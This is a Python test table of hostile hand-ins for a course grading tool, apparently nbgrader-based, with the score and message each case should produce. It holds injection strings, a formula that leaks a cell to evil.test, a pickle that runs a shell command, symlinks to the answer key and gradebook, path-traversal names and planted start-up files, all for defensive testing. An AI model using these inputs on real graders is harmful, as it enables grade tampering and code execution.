# ruff: noqa: E501  (a case is a line of a table)
"""Hand-ins that nobody should be able to harm us with; each says what must come of it."""

import json
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

NOW = "2026-02-03T14:05:11+01:00"
FIRST, STEPS = "answers/tt-1-first.json", "answers/tt-1-steps.json"
SCRIPT = "<script>parent.document.title='HACKED'</script>"
FORMULA = '=HYPERLINK("http://evil.test/"&A1,"points")'


@dataclass(frozen=True)
class Case:
    """One hostile hand-in: how it is made, what it earns, what has to be told."""

    name: str
    make: Callable[[Path, Path], None]
    points: float | None  # None where all of it is refused
    told: str = ""  # "" where nothing is wrong


def answer(item: str, value: object, **more: object) -> str:
    """The text of an answer file."""
    return json.dumps({"schema": 1, "item": item, "value": value, "at": NOW, **more})


def honest(folder: Path) -> None:
    """All answers right: 3 points."""
    (folder / FIRST).write_text(answer("tt-1-first", "test"), "utf-8")
    steps = answer("tt-1-steps", ["off", "lock", "test"])
    (folder / STEPS).write_text(steps, "utf-8")


def first_is(text: str | bytes) -> Callable[[Path, Path], None]:
    """The first answer's file holds *text*; the other answer is right."""

    def make(folder: Path, _: Path) -> None:
        data = text if isinstance(text, bytes) else text.encode()
        (folder / FIRST).write_bytes(data)

    return make


def value_is(value: object) -> Callable[[Path, Path], None]:
    """The first answer's value is *value*."""
    return first_is(answer("tt-1-first", value))


def beside(name: str, data: bytes = b"x") -> Callable[[Path, Path], None]:
    """Another file lies in the hand-in."""

    def make(folder: Path, _: Path) -> None:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)

    return make


def link(name: str, target: str) -> Callable[[Path, Path], None]:
    """A link lies where a file should be; *target* is below the course."""

    def make(folder: Path, root: Path) -> None:
        path = folder / name
        if path.is_dir():
            for below in path.rglob("*"):
                if below.is_file():
                    below.unlink()
            for below in sorted(path.rglob("*"), reverse=True):
                below.rmdir()
            path.rmdir()
        path.unlink(missing_ok=True)
        path.symlink_to(root / target)

    return make


def pipe(name: str) -> Callable[[Path, Path], None]:
    """A named pipe, which would hold up whoever reads it."""

    def make(folder: Path, _: Path) -> None:
        (folder / name).unlink(missing_ok=True)
        os.mkfifo(folder / name)

    return make


def many(number: int, name: str) -> Callable[[Path, Path], None]:
    """Very many small files."""

    def make(folder: Path, _: Path) -> None:
        for n in range(number):
            path = folder / name.format(n=n)
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(b"{}")

    return make


def sparse(name: str, size: int) -> Callable[[Path, Path], None]:
    """A file that says it is huge and takes no room."""

    def make(folder: Path, _: Path) -> None:
        with (folder / name).open("wb") as file:
            file.truncate(size)

    return make


def deep(folder: Path, _: Path) -> None:
    """Folders in folders in folders."""
    here = os.open(folder, os.O_RDONLY)
    for _level in range(300):
        os.mkdir("deep", dir_fd=here)
        below = os.open("deep", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = below
    os.close(here)


def bytes_in_name(folder: Path, _: Path) -> None:
    """A name that is not UTF-8."""
    path = os.fsencode(folder / "answers") + b"/tt-1-\xff\xfe.json"
    os.close(os.open(path, os.O_CREAT | os.O_WRONLY))


NOT_JSON = "tt-1-first.json: this is not the JSON of an answer"
CASES = [
    Case("empty", first_is(""), 2.0, NOT_JSON),
    Case("truncated", first_is('{"schema": 1, "item": "tt'), 2.0, NOT_JSON),
    Case("nan", first_is(answer("tt-1-first", 0).replace("0", "NaN")), 2.0, NOT_JSON),
    Case("infinity", value_is(float("inf")), 2.0, NOT_JSON),
    Case(
        "overflow",
        first_is(answer("tt-1-first", 7).replace("7", "1e999")),
        2.0,
        "tt-1-first",
    ),
    Case(
        "digits",
        first_is(answer("tt-1-first", 7).replace("7", "9" * 10000)),
        2.0,
        NOT_JSON,
    ),
    Case("latin-1", first_is('{"item": "blåbær"}'.encode("latin-1")), 2.0, NOT_JSON),
    Case(
        "utf-16", first_is(answer("tt-1-first", "test").encode("utf-16")), 2.0, NOT_JSON
    ),
    Case("bom", first_is(b"\xef\xbb\xbf" + answer("tt-1-first", "test").encode()), 3.0),
    Case("nul", first_is(b"\x00" * 5000), 2.0, NOT_JSON),
    Case("surrogate", first_is(answer("tt-1-first", "\ud800")), 2.0, "tt-1-first"),
    Case("deep-json", first_is("[" * 100_000), 2.0, NOT_JSON),
    Case("nested", value_is([[[[[[[[[[["test"]]]]]]]]]]]), 2.0, "nested too deeply"),
    Case(
        "twice",
        first_is(answer("tt-1-first", "test")[:-1] + ', "value": "label"}'),
        2.0,
        NOT_JSON,
    ),
    Case("huge", sparse(FIRST, 2_000_000), 2.0, "larger than"),
    Case("enormous", sparse(FIRST, 50_000_000_000), 2.0, "larger than"),
    Case("wide", value_is({f"k{n}": n for n in range(20_000)}), 2.0, "tt-1-first"),
    Case("long", value_is("x" * 300_000), 2.0, "larger than"),
    Case("list", first_is("[1, 2, 3]"), 2.0, "not an answer"),
    Case("text", first_is('"test"'), 2.0, "not an answer"),
    Case(
        "schema",
        first_is(answer("tt-1-first", "test", schema=99)),
        2.0,
        "not an answer",
    ),
    Case("true-is-one", first_is(answer("tt-1-first", "test", at=1)), 2.0, "not text"),
    Case("bool", value_is(True), 2.0, "tt-1-first"),
    Case("number", value_is(1), 2.0, "tt-1-first"),
    Case("null", value_is(None), 2.0),
    Case("object", value_is({"__class__": "test"}), 2.0, "tt-1-first"),
    Case("foreign-option", value_is("right"), 2.0, "is not one of"),
    Case("foreign-item", first_is(answer("tt-1-steps", "test")), 2.0, "another item"),
    Case(
        "unknown-item",
        beside("answers/ig-9-q9.json", b"{}"),
        3.0,
        "ig-9-q9.json: no item here",
    ),
    Case("foreign-variant", beside("answers/tt-1-first.z.json", b"{}"), 3.0),
    Case("script", value_is(SCRIPT), 2.0, "tt-1-first"),
    Case("formula", value_is(FORMULA), 2.0, "tt-1-first"),
    Case("link-to-key", link(FIRST, "modules/tiny/01-check.md"), 2.0, "a link"),
    Case(
        "link-to-gradebook", link("answers/tt-1-x.json", "gradebook.db"), 3.0, "a link"
    ),
    Case(
        "link-folder",
        link("answers", "modules/tiny"),
        0.0,
        "not a folder of the learner's own",
    ),
    Case(
        "link-files",
        link("answers/files", "modules/tiny"),
        3.0,
        "not a folder of the learner's own",
    ),
    Case(
        "link-notebook",
        link("tt-1.ipynb", "source/tt-1/tt-1.ipynb"),
        3.0,
        "tt-1.ipynb: a link",
    ),
    Case("link-stamp", link("timestamp.txt", "modules/tiny/module.toml"), 3.0),
    Case(
        "link-secret",
        link("submission_secret.txt", "modules/tiny/01-check.md"),
        3.0,
        "a link",
    ),
    Case("link-loop", link("answers/loop.json", "nowhere/loop.json"), 3.0, "a link"),
    Case("pipe", pipe(FIRST), 2.0, "not a plain file"),
    Case("pipe-notebook", pipe("tt-1.ipynb"), 3.0, "not a plain file"),
    Case("pipe-secret", pipe("submission_secret.txt"), 3.0, "not a plain file"),
    Case(
        "folder-as-answer",
        beside("answers/tt-1-x.json/y.json"),
        3.0,
        "not a plain file",
    ),
    Case("many", many(5000, "answers/tt-1-n{n}.json"), None, ""),
    Case("many-beside", many(3000, "n{n}.txt"), 3.0, "more files left out"),
    Case("deep-folders", deep, 3.0, "deep: no part of a hand-in"),
    Case("not-utf-8-name", bytes_in_name, 3.0, "not the name of an answer"),
    Case(
        "odd-name",
        beside("answers/\x1b[2J\n<b>.json"),
        3.0,
        "not the name of an answer",
    ),
    Case("dots", beside("answers/..%2f..%2fx.json"), 3.0, "not the name of an answer"),
    Case("module", beside("json.py", b"raise SystemExit"), 3.0, "json.py: no part"),
    Case(
        "start-up",
        beside("sitecustomize.py", b"raise SystemExit"),
        3.0,
        "sitecustomize.py",
    ),
    Case(
        "pickle",
        beside("answers/tt-1-x.pkl", b"cos\nsystem\n(S'touch canary'\ntR."),
        3.0,
        "tt-1-x.pkl",
    ),
    Case(
        "config",
        beside("nbgrader_config.py", b"raise SystemExit"),
        3.0,
        "nbgrader_config.py",
    ),
    Case(
        "svg",
        beside("answers/files/tt-1-x.svg", b"<svg onload=alert(1)>"),
        3.0,
        "tt-1-x.svg",
    ),
    Case(
        "html-as-jpg",
        beside("answers/files/tt-1-x.jpg", SCRIPT.encode()),
        3.0,
        "not what its name says",
    ),
    Case("big-upload", sparse("answers/files/x.jpg", 20_000_000), 3.0, "larger than"),
    Case(
        "zip-bomb",
        beside("answers.zip", b"PK\x03\x04" + b"\x00" * 1000),
        3.0,
        "answers.zip",
    ),
    Case(
        "notebook-code",
        beside("tt-1.ipynb", b'{"cells": [{"cell_type": "code", "source": "1/0"}]}'),
        3.0,
    ),
    Case("notebook-junk", beside("tt-1.ipynb", b"\x00\xff" * 50), 3.0),
    Case("notebook-deep", beside("tt-1.ipynb", b"[" * 100_000), 3.0),
    Case("stamp-junk", beside("timestamp.txt", b"yesterday \xff"), 3.0),
    Case("stamp-9999", beside("timestamp.txt", b"9999-12-31 23:59:59.999999 UTC"), 3.0),
    Case(
        "receipt",
        beside("receipt.json", b'{"sha256": "mine"}'),
        3.0,
        "receipt.json: no part",
    ),
]
